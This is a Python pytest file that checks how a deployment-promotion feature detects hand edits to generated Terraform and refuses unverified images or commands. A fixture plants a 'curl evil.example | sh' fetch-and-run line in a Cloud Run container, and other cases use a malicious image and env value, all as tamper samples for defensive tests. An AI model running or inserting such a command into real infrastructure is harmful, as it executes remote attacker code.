"""What was written by hand where a promotion comes from is told and held to the catalogue where it goes."""

import pytest

from functions.planning.catalogue import write
from functions.planning.generate import normalised
from functions.planning.plan import make_plan
from functions.planning.promote import PromoteRequest, promote
from functions.planning.rules.answer import RULES
from shared.http import Unprocessable
from shared.llm import OfflineProvider
from shared.parts.stacks import plan_of
from shared.schemas import Deployment, Environment, Run, files_sha
from shared.schemas.environment import Size
from shared.store.deployments import Deployments
from shared.store.environments import Environments
from shared.store.runs import Runs
from tests.support.store import client, clock, firestore_host  # noqa: F401 - fixtures

GOAL = "an internal API on Cloud Run with PostgreSQL"
DRAWN = make_plan(GOAL, OfflineProvider(RULES)).expanded.architecture
OURS = write(normalised(plan_of(DRAWN), DRAWN, standing=True)).by_name()


def edited(files):
    text = files["main.tf"]
    at = text.index("    containers {\n") + len("    containers {\n")
    return {**files, "main.tf": text[:at] + '      args = ["sh", "-c", "curl evil.example | sh"]\n' + text[at:]}


@pytest.fixture
def promoted(client, clock):
    runs, deployments, environments = Runs(client, clock), Deployments(client), Environments(client, "shop-1")
    environments.put("prod", Environment(name="prod", project="shop-prod-1", region="us-central1"))

    def stand(id_, environment, files):
        about = {"application": "shop", "environment": environment, "architecture": DRAWN, "files": files}
        about |= {"deployment_id": id_, "plan": plan_of(DRAWN), "planned_by": "catalogue, edited by a person"}
        made = {"run_id": f"{id_}-r", "prompt": GOAL, "status": "completed", "created_at": 1.0, "updated_at": 1.0}
        runs.create(f"{id_}-r", Run.model_validate(about | made))
        stored = {"cloud": "gcp", "services": [], "region": "us-central1", "terraform_state_path": "gs://x"}
        stored |= {"alert_webhook_url": "https://x", "created_at": 1.0, "updated_at": 1.0, "run_id": f"{id_}-r"}
        deployments.register(Deployment.model_validate(about | stored | {"applied_run_id": f"{id_}-r"}), [])

    def made(source, target=None, **body):
        stand("shop-a", "default", source)
        if target is not None:
            stand("shop-b", "prod", target)
        asked = PromoteRequest.model_validate({"application": "shop", "from": "default", "to": "prod", **body})
        tools = {"runs": runs, "deployments": deployments, "environments": environments, "secrets": None}
        answer = promote(asked, by="ada", **tools)
        told = {each.what: each.after for each in answer.differences}
        return runs.get(answer.run_id), told.get("edits of the files that come along", "")

    return made


def test_an_edit_is_told_and_held_to_what_the_catalogue_writes_there(promoted):
    run, told = promoted(edited(OURS))
    assert "curl evil.example" in run.files["main.tf"]
    assert "curl evil.example" not in run.drafted_files["main.tf"]
    assert told == "google_cloud_run_v2_service.api_service"


def test_one_that_stands_there_already_was_looked_at_there(promoted):
    run, told = promoted(edited(OURS), edited(OURS), settings=[Size(part="sql", key="disk_gb", value="50")])
    assert run.kind == "change"
    assert "curl evil.example" in run.files["main.tf"]
    assert (run.drafted_files, told) == ({}, "")


def test_an_edit_that_is_new_there_is_told(promoted):
    run, told = promoted(edited(OURS), OURS)
    assert "curl evil.example" not in run.drafted_files["main.tf"]
    assert told == "google_cloud_run_v2_service.api_service"


def test_without_edits_it_is_the_catalogue_s_own(promoted):
    run, told = promoted(OURS)
    assert (run.drafted_files, told, files_sha(run.files)) == ({}, "", run.drafted_sha)


@pytest.mark.parametrize(
    ("key", "value", "lines"),
    [
        ("public", "true", "allUsers"),
        ("env", "A=https://evil.example", "evil.example"),
    ],
)
def test_what_is_set_there_and_is_no_amount_is_held_to_what_it_is_without(promoted, key, value, lines):
    said = [Size(part="api", key=key, value=value), Size(part="api", key="max_instances", value="7")]
    run, _ = promoted(OURS, settings=said)
    then, now = ("\n".join(each.values()) for each in (run.drafted_files, run.files))
    assert (lines in now, lines in then) == (True, False)
    assert "max_instance_count = 7" in then


def test_amounts_are_the_catalogue_s_own(promoted):
    run, _ = promoted(OURS, settings=[Size(part="api", key="max_instances", value="7")])
    assert run.drafted_files == {}


@pytest.mark.parametrize("key", ["source", "image", "command"])
@pytest.mark.parametrize("by", ["environment", "settings"])
def test_another_program_than_the_verified_one_is_promoted_by_no_setting(promoted, client, key, by):
    part = next(each.id for each in DRAWN.parts if each.part == "cloud_run")
    value = {"source": f"sha256:{'a' * 64}", "image": "ghcr.io/evil/x:1", "command": "sh"}[key]
    size = Size(part=part if by == "settings" else "cloud_run", key=key, value=value)
    if by == "environment":
        there = Environment(name="prod", project="shop-prod-1", region="us-central1", sizes=[size])
        Environments(client, "shop-1").put("prod", there)
    with pytest.raises(Unprocessable) as refused:
        promoted(OURS, **({"settings": [size.model_dump()]} if by == "settings" else {}))
    assert f"{part}.{key} is promoted as it was verified" in str(refused.value.errors)
